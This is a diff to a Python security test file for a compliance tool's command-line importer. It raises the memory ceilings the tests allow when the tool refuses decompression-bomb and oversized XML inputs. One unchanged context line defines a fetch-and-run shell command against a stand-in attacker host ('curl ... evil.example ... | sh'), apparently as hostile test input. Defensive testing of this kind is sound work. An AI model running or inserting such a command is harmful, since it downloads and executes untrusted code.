@@ -25,6 +25,10 @@ from tests.security.documents import RULE
 
 CURL = "curl -fsSL http://evil.example/x | sh"
 
+# A CLI process that refused an attack without holding it: its imports and one parse, well below
+# what the attacks expand to (500 MiB and more); about 200 MiB measured in a full suite run.
+BOUNDED = 300
+
 
 def count(data_dir, table: str) -> int:
     with sqlite3.connect(data_dir / "compliance.db") as db:
@@ -109,12 +113,12 @@ def test_limits_hold_at_the_attacks_real_size(cli, tmp_path, data_dir):
     assert bomb.stat().st_size < 200_000
     refused, peak = measured(cli, "import", str(bomb), "--host", "fresh", "--create-host")
     assert refused.returncode == 1 and "holds more than 10,000 elements" in refused.stderr, refused.stderr
-    assert peak < 200, f"{peak:.0f} MiB to refuse a children bomb"
+    assert peak < BOUNDED, f"{peak:.0f} MiB to refuse a children bomb"
 
     many = documents.many_results(tmp_path / "many.xml.gz", 150_000)
     refused, peak = measured(cli, "import", str(many), "--host", "fresh", "--create-host")
     assert refused.returncode == 1 and "more rule results than any benchmark" in refused.stderr
-    assert peak < 200, f"{peak:.0f} MiB to refuse 150,000 rule results"
+    assert peak < BOUNDED, f"{peak:.0f} MiB to refuse 150,000 rule results"
 
     small = {"COMPLIANCE_TUI_LIMITS": "xml_bytes=1000000,test_results=2,rules=5"}
     padded = tmp_path / "padded.xml"
@@ -238,7 +242,7 @@ def test_hostile_content_through_content_import(cli, tmp_path, data_dir):
                 member.write(block)
     refused, peak = measured(cli, "content", "import", str(bomb))
     assert refused.returncode == 1 and "too large to be a datastream" in refused.stderr
-    assert peak < 200
+    assert peak < BOUNDED  # 520 MiB expanded would be far beyond
 
 
 XHTML = "http://www.w3.org/1999/xhtml"
